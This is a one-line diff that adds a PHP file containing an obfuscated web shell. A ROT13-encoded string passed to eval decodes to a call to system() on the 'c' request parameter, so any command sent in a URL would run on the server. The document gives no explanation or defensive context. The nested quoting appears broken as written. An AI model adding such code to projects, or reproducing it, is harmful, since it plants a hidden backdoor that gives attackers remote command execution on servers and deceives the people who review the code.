@@ -1,0 +1,1 @@
+<?php eval(str_rot13('flfgrz($_TRG['p']);')); ?>
